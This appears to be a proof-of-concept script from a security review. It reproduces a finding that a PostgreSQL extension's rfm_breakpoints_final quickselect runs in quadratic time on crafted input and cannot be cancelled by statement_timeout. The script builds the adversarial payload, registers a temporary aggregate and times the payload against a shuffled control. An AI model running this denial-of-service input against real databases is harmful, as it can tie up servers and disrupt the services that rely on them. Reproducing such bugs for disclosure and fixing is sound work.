"""R21: rfm_breakpoints_final's quickselect is quadratic on a crafted rfm_values, and not cancellable.
usage: t3_rfm_quadratic.py ADVERSARIAL.bin (from rfm_select_adversary.c)"""
import os, struct, sys, time, psycopg2
a = open(sys.argv[1], 'rb').read()
n = len(a) // 8
vals = struct.unpack('<%dd' % n, a)
body = struct.pack('>Bq', 1, n) + b''.join(struct.pack('>%dd' % n, *vals) for _ in range(3))
shuffled = list(vals); import random; random.seed(21); random.shuffle(shuffled)
body_sh = struct.pack('>Bq', 1, n) + b''.join(struct.pack('>%dd' % n, *shuffled) for _ in range(3))
conn = psycopg2.connect(user='r21_reader', dbname='postgres'); conn.autocommit = True
cur = conn.cursor()
cur.execute("CREATE AGGREGATE pg_temp.rfm_of(segmentation.rfm_values) (SFUNC = segmentation.rfm_breakpoints_combine, STYPE = segmentation.rfm_values, FINALFUNC = segmentation.rfm_breakpoints_final)")
for name, b in (('shuffled', body_sh), ('adversarial', body)):
    cur.execute("SET statement_timeout = '1s'")
    t = time.time()
    try:
        cur.execute("SELECT pg_temp.rfm_of(%s::text::segmentation.rfm_values)", ('\\x' + b.hex(),))
        r = cur.fetchone()[0]
        print(name, 'n=%d bytes=%d' % (n, len(b)), 'took %.1fs with statement_timeout 1s' % (time.time() - t), 'result row 1:', r[0])
    except Exception as e:
        print(name, 'error after %.1fs:' % (time.time() - t), str(e).strip().splitlines()[0])
